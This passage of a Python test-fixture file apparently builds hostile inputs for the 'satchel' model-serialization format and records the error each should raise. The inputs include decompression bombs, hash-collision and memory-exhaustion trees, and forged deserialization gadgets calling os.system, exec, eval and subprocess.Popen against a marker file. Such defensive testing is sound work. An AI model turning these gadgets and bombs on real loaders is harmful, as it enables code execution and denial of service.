    "A 1 MiB array stored as a 32 KB zstd frame that declares and holds 1 GiB.",
    IntegrityError, "array 0", "decompress", isolate="memory")
add("table_lz4_block_bomb",
    _one_array(lambda: _lz4_block(4 << 20), "<f8", [1 << 17], codec="lz4"),
    "A 1 MiB array stored as an lz4 block that holds 4 MiB.", IntegrityError, "array 0",
    "decompress", isolate="memory")
def _many_tiny_frames(count: int, size: int) -> bytes:
    """``count`` arrays of ``size`` zeros, each stored as a tiny zstd frame that holds them:
    each within the ratio a reader takes of one array, together thousands of times the
    file's size."""
    import zstandard

    frame = zstandard.ZstdCompressor(level=19).compress(bytes(size))
    entries, offset = [], 0
    for _ in range(count):
        entries.append(table_entry(frame, "|u1", [size], offset=offset, codec="zstd"))
        offset = align(offset + len(frame))
    section = b"".join(frame + bytes(align(len(frame)) - len(frame)) for _ in range(count))
    tree = [{"$": "nd", "a": i} for i in range(count)]
    header = {"digest": "", "tree": tree, "arrays": entries, "metadata": {}}
    return pack(orjson.dumps(header), section)


add("table_thousands_of_tiny_frames", functools.partial(_many_tiny_frames, 4000, 1 << 20),
    "4000 arrays of 1 MiB, each a 49-byte zstd frame: a 300 KB file that claims 4 GiB.",
    LimitError, "claim to expand to 4194304000 together", isolate="memory")
add("layout_gap_between_arrays",
    _entry(1, offset=align(len(np.arange(300.0).tobytes())) + ALIGNMENT),
    "A second array placed one alignment step after where it belongs.", FormatError,
    "arrays follow each other")
add("layout_second_array_overlaps_first", _entry(1, offset=0),
    "A second array at offset 0, on top of the first.", FormatError, "arrays follow each other")
add("layout_negative_offset", _entry(0, offset=-64),
    "A negative offset.", FormatError, "non-negative")


# ---------------------------------------------------------------- malformed nodes


def _root(tree: Any, *arrays: Callable[[], np.ndarray[Any, Any]]) -> Builder:
    return lambda: rooted(tree, [make() for make in arrays])


def _inline(dtype: str, shape: list[int], data: bytes) -> dict[str, Any]:
    return {"$": "nd", "dtype": dtype, "shape": shape, "b64": base64.b64encode(data).decode()}


def _bytes_array(data: bytes) -> Callable[[], np.ndarray[Any, Any]]:
    return lambda: np.frombuffer(data, dtype=np.uint8).copy()


_NODES: list[tuple[str, Any, str, tuple[str, ...]]] = [
    ("kind_not_a_string", {"$": ["pickle"]}, "A node kind that is a list.",
     ("kind must be a string",)),
    ("array_index_out_of_table", {"$": "nd", "a": 7}, "An array index past the table.",
     ("array index 7 is not in the array table",)),
    ("array_index_boolean", {"$": "nd", "a": True}, "An array index that is a boolean.",
     ("is not in the array table",)),
    ("ref_number_reused", {"$": "tuple", "v": [
        {**_inline("<f8", [1], bytes(8)), "@": 0}, {**_inline("<f8", [1], bytes(8)), "@": 0}]},
     "Two nodes registered under reference number 0.", ("used twice",)),
    ("ref_to_a_string", {"$": "ref", "to": "0"}, "A reference to a string.",
     ("points to no object defined before it",)),
    ("int_double_minus", {"$": "int", "v": "--5"}, "A big-int node holding '--5'.",
     ("int node",)),
    ("int_unicode_digit", {"$": "int", "v": "\u00b2"}, "A big-int node holding a superscript 2.",
     ("int node",)),
    ("int_too_long", {"$": "int", "v": "9" * 5000}, "A big-int node of 5000 digits.",
     ("up to 4000 decimal digits",)),
    ("complex_overflow", {"$": "complex", "v": [{"$": "int", "v": "1" + "0" * 400}, 0.0]},
     "A complex number whose real part is 10**400.", ("complex",)),
    ("npscalar_zero_itemsize", {"$": "npscalar", "dtype": "|V0", "hex": "00"},
     "A numpy scalar of a zero-byte dtype that holds a byte.", ("npscalar",)),
    ("npscalar_dtype_not_understood", {"$": "npscalar", "dtype": "<f3", "hex": "000000"},
     "A numpy scalar of dtype '<f3'.", ("npscalar.dtype: '<f3' is not a dtype numpy knows",)),
    ("inline_zero_itemsize", _inline("|S0", [5], b""),
     "An inline array of five zero-byte strings.", ("has no size",)),
    ("inline_shape_huge_with_a_zero", _inline("<f8", [0, (1 << 64) - 1], b""),
     "An inline array of shape (0, 2**64-1).", ("inline array",)),
    ("inline_bad_base64", {"$": "nd", "dtype": "<f8", "shape": [1], "b64": "!!!!"},
     "An inline array whose base64 is invalid.", ("invalid base64",)),
    ("inline_object_dtype", _inline("|O", [1], bytes(8)),
     "An inline array of object dtype (8 bytes of pointer).", ("expected a simple dtype",)),
    ("objarray_count_mismatch", {"$": "objarray", "shape": [2, 2], "order": "C", "v": [1]},
     "An object array of shape (2, 2) with one value.", ("needs 4 values, found 1",)),
    ("bit_generator_unknown", {"$": "generator", "state": {"$": "dict", "v": {
        "bit_generator": "os.system"}}}, "A random generator naming os.system.",
     ("bit generator must be one of",)),
    ("bit_generator_state_is_an_array", {"$": "generator", "state": {"$": "dict", "v": {
        "bit_generator": "PCG64", "state": _inline("<u8", [2], bytes(16)), "has_uint32": 0,
        "uinteger": 0}}},
     "A PCG64 generator whose inner state is an array, which numpy indexes like a dict.",
     ("invalid random generator state",)),
    ("partial_wraps_an_object", {"$": "partial", "func": {
        "$": "obj", "cls": "sklearn.base:BaseEstimator"}, "args": [], "kw": {"$": "dict",
                                                                        "v": {}}},
     "A partial around an object instead of a function.", ("a partial must wrap",)),
    ("dict_unhashable_key", {"$": "dict", "k": [[1]], "v": [2]},
     "A dict whose key is a list.", ("not hashable",)),
    ("name_not_a_string", {"$": "obj", "cls": 5}, "A class named by a number.",
     ("must name a class as a string",)),
    ("range_zero_step", {"$": "range", "v": [0, 5, 0]}, "A range with step 0.",
     ("non-zero step",)),
    ("masked_shapes_differ", {"$": "masked", "data": _inline("<f8", [3], bytes(24)),
                              "mask": _inline("|b1", [2], bytes(2)), "fill": 0.0},
     "A masked array whose mask is shorter than its data.", ("a masked array needs",)),
    ("malformed_name_in_a_data_key", {"$": "pandas", "kind": "RangeIndex", "v": [0, 3, 1],
                                      "name": {"$": "func", "name": 5}},
     "A pandas index whose name (a key the name walk skips) is a function named 5.",
     ("pandas name",)),
]


def _nested(depth: int, make: Callable[[Any], Any], inner: Any) -> Any:
    for _ in range(depth):
        inner = make(inner)
    return inner


def _categorical(dtype: Any) -> dict[str, Any]:
    return {"$": "pandas", "kind": "Categorical", "codes": _inline("|i1", [2], bytes(2)),
            "dtype": dtype}


def _generator(name: str, state: dict[str, Any], **rest: Any) -> dict[str, Any]:
    return {"$": "generator", "state": {"$": "dict", "v": {
        "bit_generator": name, "state": {"$": "dict", "v": state}, **rest}}}


_NODES += [
    ("pandas_categorical_dtype_not_a_dtype", _categorical(5),
     "A pandas Categorical whose dtype is the number 5.", ("invalid pandas Categorical",)),
    ("pandas_index_float16", {"$": "pandas", "kind": "Index",
                              "values": _inline("<f2", [2], bytes(4)), "name": None},
     "A pandas Index of float16, which pandas refuses with NotImplementedError.",
     ("float16",)),
    ("npscalar_code_point_past_10ffff", {"$": "npscalar", "dtype": "<U1", "hex": "ffffffff"},
     "A numpy str scalar holding code point 0xFFFFFFFF.", ("past U+10FFFF",)),
    ("inline_code_point_past_10ffff", _inline("<U1", [1], b"\x00\x00\x11\x00"),
     "An inline str array holding code point 0x110000.", ("past U+10FFFF",)),
    ("set_of_colliding_hashes", {"$": "set", "v": [
        {"$": "int", "v": str(k * (2**61 - 1))} for k in range(1, 1202)]},
     "1201 distinct integers of one hash value (multiples of 2**61 - 1).",
     ("keys of one hash value",)),
    ("bit_generator_philox_buffer_pos", _generator(
        "Philox", {"counter": _inline("<u8", [4], bytes(32)), "key": _inline("<u8", [2],
                                                                            bytes(16))},
        buffer=_inline("<u8", [4], bytes(32)), buffer_pos=-(2**30), has_uint32=0, uinteger=0),
     "A Philox generator whose buffer position is -2**30 (numpy indexes with it).",
     ("buffer_pos must be",)),
    ("sparse_bsr_zero_block", {"$": "sparse", "cls": "bsr_matrix", "shape": [2, 2],
                               "data": _inline("<f8", [1, 0, 2], b""),
                               "indices": _inline("<i4", [1], bytes(4)),
                               "indptr": _inline("<i4", [2], bytes(8))},
     "A BSR matrix whose blocks have no rows.", ("invalid bsr_matrix",)),
]
_PCG = {"state": 1, "inc": 1}
_NODES += [
    ("bit_generator_name_a_list", _generator([1], _PCG, has_uint32=0, uinteger=0),
     "A generator whose bit generator name is a list (unhashable).",
     ("bit generator must be one of",)),
    ("bit_generator_flag_an_array", _generator(
        "PCG64", _PCG, has_uint32=_inline("<i8", [2], bytes(16)), uinteger=0),
     "A generator whose has_uint32 flag is an array (of no single truth value).",
     ("has_uint32 must be 0 or 1",)),
    ("bit_generator_seed_children_2_62", {**_generator("PCG64", _PCG, has_uint32=0, uinteger=0),
                                          "seed": {"$": "dict", "v": {
                                              "entropy": 1, "spawn_key": [], "pool_size": 4,
                                              "n_children_spawned": 1 << 62}}},
     "A seed sequence that has spawned 2**62 children (numpy counts them in 32 bits).",
     ("invalid random generator seed sequence",)),
    ("date_of_month_255", {"$": "new", "cls": "datetime:date", "args": [
        {"$": "bytes", "b64": "/////w=="}]},
     "A date (trusted data) from four 0xFF bytes: month 255.",
     ("could not construct datetime.date",)),
    ("pandas_int8_holding_1000", {"$": "pandas", "kind": "array", "dtype": "Int8", "values": {
        "$": "objarray", "shape": [1], "order": "C", "v": [1000]}},
     "A pandas Int8 array holding 1000.", ("invalid pandas array",)),
    ("pandas_series_of_a_scalar", {"$": "pandas", "kind": "Series", "values": 5, "name": None,
                                   "index": {"$": "pandas", "kind": "RangeIndex",
                                             "v": [0, 10**12, 1], "name": None}},
     "A Series whose values are the number 5 over 10**12 rows (pandas would repeat it).",
     ("one value for each of the 1000000000000 rows",)),
    ("pandas_frame_column_of_a_scalar", {
        "$": "pandas", "kind": "DataFrame", "data": [5],
        "columns": {"$": "pandas", "kind": "RangeIndex", "v": [0, 1, 1], "name": None},
        "index": {"$": "pandas", "kind": "RangeIndex", "v": [0, 250_000_000, 1], "name": None}},
     "A DataFrame column that is the number 5 over 250 million rows (2 GiB if repeated).",
     ("one value for each of the 250000000 rows",)),
]
_NODES += [
    ("pandas_marker_in_lower_case", {"$": "pandas", "kind": "nat"},
     "pandas' NaT marker spelled in lower case, a kind satchel never writes.",
     ("invalid pandas nat: unknown kind 'nat'",)),
    ("pandas_dtype_int128", {"$": "pandas", "kind": "dtype", "dtype": "Int128"},
     "A pandas extension dtype Int128, which does not exist.",
     ("expected Int8 to UInt64, Float32, Float64, boolean or string, found 'Int128'",)),
    ("pandas_dtype_category_by_name", {"$": "pandas", "kind": "dtype", "dtype": "category"},
     "A categorical dtype by name, which satchel stores with its categories (CategoricalDtype).",
     ("found 'category'",)),
    ("pandas_dtype_not_a_string", {"$": "pandas", "kind": "dtype", "dtype": ["Int64"]},
     "A pandas dtype named by a list.", ("needs 'dtype' of type str, found list",)),
    ("pandas_string_dtype_unknown_storage", {
        "$": "pandas", "kind": "dtype", "dtype": "string", "storage": "pyarrow_numpy",
        "na_value": "NA"},
     "A string dtype of a storage satchel does not write (pandas 2.2's pyarrow_numpy).",
     ("expected storage 'python' or 'pyarrow' and na_value 'NA' or 'nan', found"
      " 'pyarrow_numpy' and 'NA'",)),
    ("pandas_string_dtype_without_na_value", {
        "$": "pandas", "kind": "dtype", "dtype": "string", "storage": "python"},
     "A string dtype that does not say which missing-value marker it uses.",
     ("na_value 'NA' or 'nan', found 'python' and 'None'",)),
]
for _label, _tree, _about, _match in _NODES:
    add(f"node_{_label}", _root(_tree), _about, FormatError, *_match)



def _deep(tree: Any) -> Builder:
    """A file whose tree nests deeper than orjson writes (255 levels)."""
    return lambda: pack(header_text(json.dumps(tree).encode()))


add("node_dtype_record_nested_150_deep", _deep({"$": "dtype", "dtype": _nested(
    150, lambda inner: {"names": ["a"], "formats": [inner], "offsets": [0], "itemsize": 8},
    "<f8")}), "A record dtype nested 150 deep: 300 JSON levels.", FormatError,
    "nested too deep")
add("node_pandas_dtype_hides_deep_nesting", _deep(_categorical(_nested(
    300, lambda inner: {"$": "complex", "v": [inner, 0.0]}, 1.0))),
    "300 nested complex nodes under a Categorical's dtype, a key the name walk used to skip.",
    LimitError, "nests deeper than 200")
add("node_bit_generator_seed_pool_of_2_40_words", _root({
    "$": "generator", "state": {"$": "dict", "v": {
        "bit_generator": "PCG64", "state": {"$": "dict", "v": {"state": 1, "inc": 1}},
        "has_uint32": 0, "uinteger": 0}},
    "seed": {"$": "dict", "v": {"entropy": 1, "spawn_key": [], "pool_size": 1 << 40,
                                "n_children_spawned": 0}}}),
    "A seed sequence asking numpy for a pool of 2**40 words.", FormatError,
    "invalid random generator seed sequence", isolate="memory")
add("node_objs_members_times_columns", _root({
    "$": "objs", "cls": "sklearn.tree._classes:DecisionTreeClassifier", "n": 300_000,
    "state": {"$": "cols", "v": {f"c{i}": {"$": "same", "v": i} for i in range(300)}}}),
    "300,000 members of 300 shared columns: a small file that would build 90 million values.",
    LimitError, "more than 1000000 nodes")
add("node_bit_generator_mt19937_pos", _root(
    _generator("MT19937", {"key": {"$": "nd", "a": 0}, "pos": 2_000_000_000}),
    lambda: np.zeros(624, np.uint32)),
    "An MT19937 generator whose position is 2e9, past its 624 words.", FormatError,
    "pos must be an integer from 0 to 624")
#: A RangeIndex of a million numbers, the most one may hold outside a Series or DataFrame:
#: a few bytes that pandas and numpy list as 8 MB (and a longer one, before RangeIndex
#: lengths were bounded, as 8 TiB).
_RANGE_INDEX = {"$": "pandas", "kind": "RangeIndex", "v": [0, 1_000_000, 1], "name": None}
add("node_pandas_extension_array_of_a_range", _root({
    "$": "pandas", "kind": "array", "dtype": "Int64", "values": _RANGE_INDEX}),
    "A pandas Int64 array whose values are a RangeIndex, not the array satchel saves:"
    " pd.array listed it one by one (8 TiB for 2**40 numbers).", FormatError,
    "values must be a 1-d array", isolate="memory")
add("node_masked_fill_of_a_range", _root({
    "$": "masked", "data": _inline("<f8", [1], bytes(8)), "mask": _inline("|b1", [1], bytes(1)),
    "fill": _RANGE_INDEX}),
    "A masked array whose fill value is a RangeIndex, not a number or an array: numpy made"
    " an array of it (8 TiB for 2**40 numbers).", FormatError, "fill value must be",
    isolate="memory")
add("node_pandas_dtype_hides_an_untrusted_class",
    _root(_categorical({"$": "obj", "cls": "subprocess:Popen"})),
    "subprocess.Popen under a Categorical's dtype, a key the name walk used to skip.",
    UntrustedTypesError, "subprocess.Popen", names=("subprocess.Popen",))

add("node_strs_not_utf8", _root({"$": "strs", "a": 0, "n": 2}, _bytes_array(b"\xff\x00a")),
    "Packed strings that are not UTF-8.", FormatError, "not valid UTF-8")
add("node_strs_not_bytes", _root({"$": "strs", "a": 0, "n": 2}, lambda: np.arange(3)),
    "Packed strings stored as int64.", FormatError, "1-d uint8")
add("node_strdict_value_count",
    _root({"$": "strdict", "k": {"$": "strs", "a": 0, "n": 2}, "v": 1},
          _bytes_array(b"a\x00b"), lambda: np.arange(3)),
    "A string-keyed dict with 2 keys and 3 values.", FormatError,
    "a strdict needs 2 integer values")


# ---------------------------------------------------------------- sparse matrices


def _sparse(which: str, change: Callable[[dict[str, Any], Forge], None]) -> Builder:
    def edit(forge: Forge) -> None:
        change(forge.tree["v"][which], forge)
    return lambda: forged("sparse", edit)


def _set_part(part: str, index: int, value: Any) -> Callable[[dict[str, Any], Forge], None]:
    def change(node: dict[str, Any], forge: Forge) -> None:
        edit_array(forge, node[part], lambda a: a.__setitem__(index, value))
    return change


def _decreasing_indptr(node: dict[str, Any], forge: Forge) -> None:
    edit_array(forge, node["indptr"], lambda a: a.__setitem__(2, a[3] + 1))


def _float_indices(node: dict[str, Any], forge: Forge) -> None:
    edit_array(forge, node["indices"], lambda a: a.astype(np.float64))


_SPARSE: list[tuple[str, str, Callable[[dict[str, Any], Forge], None], str]] = [
    ("csr_column_out_of_range", "csr", _set_part("indices", 0, 20), "invalid csr_matrix"),
    ("csr_negative_column", "csr", _set_part("indices", 0, -1), "invalid csr_matrix"),
    ("csr_indptr_decreasing", "csr", _decreasing_indptr, "invalid csr_matrix"),
    ("csr_float_indices", "csr", _float_indices, "must be integers"),
    ("coo_row_out_of_range", "coo", _set_part("row", 0, 30), "invalid coo_matrix"),
    ("class_not_sparse", "csr", lambda n, f: n.update(cls="lil_matrix"),
     "sparse class must be one of"),
    ("negative_shape", "csr", lambda n, f: n.update(shape=[-1, 20]),
     "shape of two non-negative integers"),
]
for _label, _which, _change, _match in _SPARSE:
    add(f"sparse_{_label}", _sparse(_which, _change), f"A sparse matrix: {_label}.",
        FormatError, _match)


# ---------------------------------------------------------------- forged names

_TOUCH = f"touch {MARKER}"
_PY_TOUCH = f"open({MARKER!r}, 'w')"
_NO_KW = {"$": "dict", "v": {}}


def _partial(function: str, *args: Any) -> dict[str, Any]:
    return {"$": "partial", "func": {"$": "func", "name": function}, "args": list(args),
            "kw": _NO_KW}


def _as_func(node: Any) -> Builder:
    """A fitted FunctionTransformer whose ``func`` is ``node``."""
    def edit(forge: Forge) -> None:
        attrs(forge.tree)["func"] = node
    return lambda: forged("function", edit)


_FORGED: list[tuple[str, Any, str, tuple[str, ...]]] = [
    ("partial_os_system", _partial("os:system", _TOUCH),
     "functools.partial(os.system, 'touch ...') as a transformer's func.", ("os.system",)),
    ("func_posix_system", {"$": "func", "name": "posix:system"},
     "posix.system, the spelling pickles use, as a func.", ("posix.system",)),
    ("partial_builtins_exec", _partial("builtins:exec", f"import os; os.system({_TOUCH!r})"),
     "functools.partial(exec, code).", ("builtins.exec",)),
    ("construct_builtins_eval", {"$": "new", "cls": "builtins:eval", "args": [_PY_TOUCH]},
     "eval(code) spelled as a constructor call.", ("builtins.eval",)),
    ("type_builtins_eval", {"$": "type", "name": "builtins:eval"},
     "builtins.eval stored as a type.", ("builtins.eval",)),
    ("construct_subprocess_popen", {"$": "new", "cls": "subprocess:Popen",
                                    "args": [["touch", MARKER]]},
     "subprocess.Popen(['touch', ...]) spelled as a constructor call.", ("subprocess.Popen",)),
    ("obj_subprocess_popen", {"$": "obj", "cls": "subprocess:Popen", "state": {
        "$": "dict", "v": {"args": ["touch", MARKER]}}},
     "A subprocess.Popen instance with state.", ("subprocess.Popen",)),
    ("partial_numpy_save", _partial("numpy:save", MARKER, [1, 2]),
     "functools.partial(numpy.save, path), a numpy function not on the vetted list.",
     ("numpy.save",)),
    ("func_numpy_submodule", _partial("numpy:lib.format.open_memmap", MARKER),
     "A function of a numpy submodule, reached through numpy's namespace.",
     ("numpy.lib.format.open_memmap",)),
    ("methodcaller_system", {"$": "new", "cls": "operator:methodcaller",
                             "args": ["system", _TOUCH]},
     "operator.methodcaller('system', ...).", ("operator.methodcaller",)),
    ("attrgetter_globals", {"$": "new", "cls": "operator:attrgetter", "args": ["__globals__"]},
     "operator.attrgetter('__globals__').", ("operator.attrgetter",)),
    ("method_path_touch", _partial("pathlib:Path.touch", MARKER),
     "An unbound method of a standard-library class as a func.", ("pathlib.Path.touch",)),
    ("method_of_an_sklearn_class", {"$": "func",
                                    "name": "sklearn.preprocessing._data:StandardScaler.fit"},
     "An unbound method of a scikit-learn class, named as a vetted-module function.",
     ("sklearn.preprocessing._data.StandardScaler.fit",)),
    ("function_reexported_by_sklearn", _partial("sklearn.metrics.pairwise:np.save", MARKER,
                                                [1]),
     "numpy.save reached through a vetted scikit-learn module's namespace.",
     ("sklearn.metrics.pairwise.np.save",)),
    ("class_pyfunc_distance", {"$": "obj", "cls": "sklearn.metrics._dist_metrics:"
                                                  "PyFuncDistance64"},
     "The scikit-learn metric that holds an arbitrary Python callable.",
     ("sklearn.metrics._dist_metrics.PyFuncDistance64",)),
    ("class_sklearn_testing_module", {"$": "obj", "cls": "sklearn.utils._testing:TempMemmap"},
     "A class from scikit-learn's testing helpers.", ("sklearn.utils._testing.TempMemmap",)),
]
for _label, _node, _about, _names in _FORGED:
    add(f"forged_{_label}", _as_func(_node), _about, UntrustedTypesError, *_names,
        names=_names)


def _randomized_svd_forever(forge: Forge) -> None:
    transformer = attrs(find(forge.tree, "FunctionTransformer"))
    transformer["func"] = {"$": "func", "name": "sklearn.utils.extmath:randomized_svd"}
    transformer["kw_args"] = {"$": "dict", "v": {"n_components": 1, "n_iter": 10**9}}


def _pairwise_kernels_workers(partial: bool) -> Callable[[Forge], None]:
    """Make a pipeline's FunctionTransformer call pairwise_kernels with n_jobs=100000, given
    in its kw_args or bound by a partial: that many threads each time the model predicts."""
    def edit(forge: Forge) -> None:
        transformer = attrs(find(forge.tree, "FunctionTransformer"))
        function = {"$": "func", "name": "sklearn.metrics.pairwise:pairwise_kernels"}
        keywords = {"$": "dict", "v": {"metric": "linear", "n_jobs": 100_000}}
        transformer["func"] = {"$": "partial", "func": function, "args": [],
                               "kw": keywords} if partial else function
        if not partial:
            transformer["kw_args"] = keywords
    return edit


for _label, _partial_given, _match in [
        ("kw_args", False, "kw_args['n_jobs'] is 100000"),
        ("partial", True, "invalid functools.partial: n_jobs is 100000")]:
    add(f"forged_{_label}_n_jobs_100000",
        functools.partial(forged, "function_pipeline", _pairwise_kernels_workers(_partial_given)),
        f"A pipeline's FunctionTransformer calling pairwise_kernels with n_jobs=100000 in its"
        f" {_label}: joblib would start 100,000 threads to predict.", FormatError, _match,
        isolate="crash")
add("forged_randomized_svd_of_10_9_iterations",
    lambda: forged("function_pipeline", _randomized_svd_forever),
    "A pipeline's FunctionTransformer calling scikit-learn's randomized_svd with"
    " n_iter=10**9 in its kw_args: predict never returned.", UntrustedTypesError,
    "sklearn.utils.extmath.randomized_svd", names=("sklearn.utils.extmath.randomized_svd",),
    isolate="crash", seconds=20)

for _label, _node in [
    ("class", {"$": "obj", "cls": f"{FAKE_MODULE}.payload:Payload",
               "state": {"$": "dict", "v": {"command": _TOUCH}}}),
    ("partial", _partial(f"{FAKE_MODULE}:run", _TOUCH)),
    ("namedtuple", {"$": "namedtuple", "cls": f"{FAKE_MODULE}:Point", "v": [1, 2]}),
]:
    _name = _node.get("cls") or _node["func"]["name"]
    _dotted = (_name.replace(":", "."),)
    add(f"forged_fake_module_{_label}", _as_func(_node),
        f"A {_label} from a module that does not exist.", UntrustedTypesError, *_dotted,
        names=_dotted, forbidden=(FAKE_MODULE,))

add("forged_name_in_a_data_key",
    _root({"$": "pandas", "kind": "RangeIndex", "v": [0, 3, 1],
           "name": {"$": "obj", "cls": f"{FAKE_MODULE}:Payload"}}),
    "A class hidden in a pandas index's name, a key the trust walk skips.",
    FormatError, "pandas name", forbidden=(FAKE_MODULE,))
_MATLIB = "sklearn.base:np.matlib.matrix"
add("forged_path_through_numpy_matlib", _as_func({"$": "obj", "cls": _MATLIB}),
    "A scikit-learn-module name whose attribute path walks into numpy.matlib.",
    UntrustedTypesError, _MATLIB.replace(":", "."), names=(_MATLIB.replace(":", "."),),
    isolate="imports", forbidden=("numpy.matlib",))
add("forged_module_in_code_metadata",
    lambda: rooted(1, metadata={"code": [{"module": f"{MARKER_MODULE}.payload",
                                          "names": [f"{MARKER_MODULE}.payload.Model"]}]}),
    "A plain value whose metadata records custom code in an installed module.",
    FormatError, f"metadata.code records module(s) ['{MARKER_MODULE}.payload'] that the"
    " object does not use: the metadata was altered", isolate="imports",
    forbidden=(MARKER_MODULE,))
_POPEN = {"$": "new", "cls": "subprocess:Popen", "args": [["touch", MARKER]]}
for _label, _tree, _record in [
    ("library_module", _POPEN, {"module": "subprocess", "names": ["subprocess.Popen"]}),
    ("library_module_with_source", _POPEN, {"module": "subprocess", "source": "",
                                            "names": ["subprocess.Popen"]}),
    ("name_outside_its_module", [_POPEN, {"$": "type", "name": "satchel_own_steps:Step"}],
     {"module": "satchel_own_steps", "source": "class Step: pass\n",
      "names": ["satchel_own_steps.Step", "subprocess.Popen"]}),
]:
    add(f"trust_code_with_a_{_label}",
        functools.partial(rooted, _tree, metadata={"code": [_record]}),
        "subprocess.Popen(['touch', ...]), recorded as custom code that the file's source does"
        " not define, loaded with trust_code=True: it ran.", UntrustedTypesError,
        "subprocess.Popen", names=("subprocess.Popen",), options=(("trust_code", True),))
_SCIPY_EXEC = (f"open({MARKER!r}, 'w').close()\n"
               + "".join(f"def {n}(self): pass\n"
                         for n in ("_parse_args", "_parse_args_stats", "_parse_args_rvs")))
add("forged_distribution_argument_parser_source",
    _root({"$": "obj", "cls": "scipy.stats._continuous_distns:norm_gen", "state": {
        "$": "dict", "v": {"_parse_arg_template": _SCIPY_EXEC, "numargs": 0, "moment_type": 1}}}),
    "A scipy.stats distribution (trusted for RandomizedSearchCV) whose argument-parsing source,"
    " which scipy's __setstate__ runs with exec, opens a file.",
    FormatError, "invalid scipy.stats distribution", "argument-parsing source", isolate="crash")
_MONITOR = "sklearn.callback._scoring_monitor:ScoringMonitor"
add("forged_scoring_monitor_connecting_out",
    _root({"$": "obj", "cls": _MONITOR, "state": {"$": "dict", "v": {
        "_scoring": ["accuracy"], "_log": [], "_estimator_scorers": {"$": "dict", "v": {}},
        "_listener_handle": {"$": "namedtuple", "cls": "sklearn.callback._transport:ListenerHandle",
                             "v": [{"$": "tuple", "v": ["127.0.0.1", 9]},
                                   {"$": "bytes", "b64": "AAAA"}]}}}}),
    "A scikit-learn scoring callback whose __setstate__ connects to the address its state"
    " names (a server that accepts and never answers made the load wait forever).",
    UntrustedTypesError, _MONITOR.replace(":", "."), names=(_MONITOR.replace(":", "."),),
    isolate="crash", seconds=20)
add("class_swapped_through_a_slot", _root({
    "$": "obj", "cls": "sklearn.utils._param_validation:Hidden", "state": {"$": "tuple", "v": [
        {"$": "dict", "v": {"_t": _inline("<f8", [2], np.array([0.0, 1.0]).tobytes()),
                            "_c": _inline("<f8", [1], bytes(8)), "k": -5,
                            "extrapolate": True, "axis": 0}},
        {"$": "dict", "v": {"__class__": {"$": "type",
                                          "name": "scipy.interpolate._bsplines:BSpline"}}}]}}),
    "A plain scikit-learn object whose slot state sets __class__ to BSpline, past the checks"
    " of a BSpline's state: its degree of -5 aborted the process when it was evaluated.",
    FormatError, "'__class__' is not a slot of Hidden", isolate="crash")
for _label, _node in [("globals", {"$": "func",
                                   "name": "sklearn.base:BaseEstimator.__init__.__globals__"}),
                      ("class", {"$": "obj", "cls": "sklearn.base:BaseEstimator.__class__"}),
                      ("import", {"$": "func", "name": "builtins:__import__"})]:
    add(f"forged_dunder_{_label}", _as_func(_node), f"A name reaching for __{_label}__.",
        FormatError, "invalid name")


# ---------------------------------------------------------------- scikit-learn state


def _model(base_name: str, edit: Callable[[Forge], None]) -> Builder:
    return lambda: forged(base_name, edit)


def _set_field(forge: Forge, node: dict[str, Any], **values: Any) -> None:
    """Set fields of the first record of a record array node."""
    def change(array: np.ndarray[Any, Any]) -> None:
        for name, value in values.items():
            array[name][0] = value
    edit_array(forge, node, change)


def _tree_node(forge: Forge) -> dict[str, Any]:
    return find(forge.tree, "Tree")


def _feature_beyond_input(member: dict[str, Any], forge: Forge) -> None:
    """Drop a tree's n_features_in_; give its Tree 2**31 features and split on the last."""
    del attrs(member)["n_features_in_"]
    tree = find(member, "Tree")
    tree["args"][0] = 1 << 31
    _set_field(forge, attrs(tree)["nodes"], feature=(1 << 31) - 1)


def _forest_feature_beyond_input(forge: Forge) -> None:
    """:func:`_feature_beyond_input` on a forest whose trees are columns: every member
    loses n_features_in_ and its Tree gets 2**31 features; the first splits on the last."""
    columns = attrs(forge.tree)["estimators_"]["state"]["v"]
    del columns["n_features_in_"]
    trees = columns["tree_"]
    trees["args"][0] = {"$": "same", "v": 1 << 31}
    _set_field(forge, trees["state"]["v"]["nodes"]["v"], feature=(1 << 31) - 1)


def _forest_values_without_rows(forge: Forge) -> None:
    """Empty the concatenated values of a forest's Trees, then declare 2**40 x 2**40 entries
    per row: still no bytes, so the array table's length checks hold."""
    values = attrs(forge.tree)["estimators_"]["state"]["v"]["tree_"]["state"]["v"]["values"]
    arrays = forge.arrays()
    arrays[values["v"]["a"]] = np.zeros((0, 1, 2))
    forge.set_arrays(arrays)
    put_array(values["lens"], np.zeros(2, dtype=np.int64))
    forge.header["arrays"][values["v"]["a"]]["shape"] = [0, 1 << 40, 1 << 40]


def _forest_row_counts_defined_later(forge: Forge) -> None:
    """Make the row counts of a forest's Tree nodes a reference to an array that a later
    Tree attribute defines (Trees ignore attributes they do not know)."""
    columns = attrs(forge.tree)["estimators_"]["state"]["v"]["tree_"]["state"]["v"]
    lengths = dict(columns["nodes"]["lens"], **{"@": 9001})
    columns["later"] = {"$": "each", "v": [lengths, 0]}
    columns["nodes"]["lens"] = {"$": "ref", "to": 9001}


def _predictor(forge: Forge) -> dict[str, Any]:
    return find(forge.tree, "TreePredictor")


def _categorical_split(forge: Forge, feature: int, bitset: int) -> None:
    predictor = attrs(_predictor(forge))
    _set_field(forge, predictor["nodes"], is_categorical=1, feature_idx=feature,
               bitset_idx=bitset)
    for name in ("binned_left_cat_bitsets", "raw_left_cat_bitsets"):
        put_array(predictor[name], np.zeros((1, 8), dtype=np.uint32))


def _mahalanobis_keywords(forge: Forge) -> None:
    """Make a FunctionTransformer's pairwise_distances Mahalanobis, with a VI of 1x1."""
    keywords = attrs(find(forge.tree, "FunctionTransformer"))["kw_args"]["v"]
    keywords.update(metric="mahalanobis", VI=_inline("<f8", [1, 1], np.ones(1).tobytes()))


def _count_sketch_degree(forge: Forge) -> None:
    """Degree 1000 with hashes to match, and 2**24 columns."""
    state = attrs(find(forge.tree, "PolynomialCountSketch"))
    for name in ("indexHash_", "bitHash_"):
        edit_array(forge, state[name], lambda a: np.resize(a, (1000, a.shape[1])))
    state.update(degree=1000, n_components=1 << 24)


def _binary_tree(forge: Forge, cls: str = "KDTree") -> list[Any]:
    return attrs(find(forge.tree, cls))  # type: ignore[no-any-return]


def _svc_many_classes(forge: Forge) -> None:
    """5000 classes, all support vectors in the first: counts agree, the coefficients do not."""
    state = attrs(forge.tree)
    vectors = get_array(forge, state["support_vectors_"]).shape[0]
    put_array(state["classes_"], np.arange(5000, dtype=np.int16))
    put_array(state["_n_support"], np.array([vectors] + [0] * 4999, dtype=np.int32))


_MODELS: list[tuple[str, str, Callable[[Forge], Any], str, str]] = [
